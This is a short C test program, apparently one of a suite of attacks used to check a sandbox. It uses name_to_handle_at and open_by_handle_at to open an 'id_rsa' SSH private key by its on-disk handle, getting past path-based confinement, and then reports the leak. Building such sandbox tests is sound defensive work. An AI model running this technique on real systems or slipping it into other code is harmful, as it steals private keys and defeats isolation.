/* SPDX-License-Identifier: Apache-2.0 */
/* As root: open_by_handle_at(2) opens the key by its number on the disk, without any path. */
#define ATTACK "handle-open"
#include "attack.h"

#define BYTES 128

int main(int count, char **argument)
{
	struct file_handle *handle = calloc(1, sizeof(*handle) + BYTES);
	int mount, place = prepare("open", open(argument[2], O_RDONLY | O_DIRECTORY | O_CLOEXEC));

	(void)count;
	handle->handle_bytes = BYTES;
	prepare("name_to_handle_at", name_to_handle_at(AT_FDCWD, text("%s/id_rsa", argument[1]), handle, &mount, 0));
	leak("open", intended("open", open_by_handle_at(place, handle, O_RDONLY | O_CLOEXEC)));
}
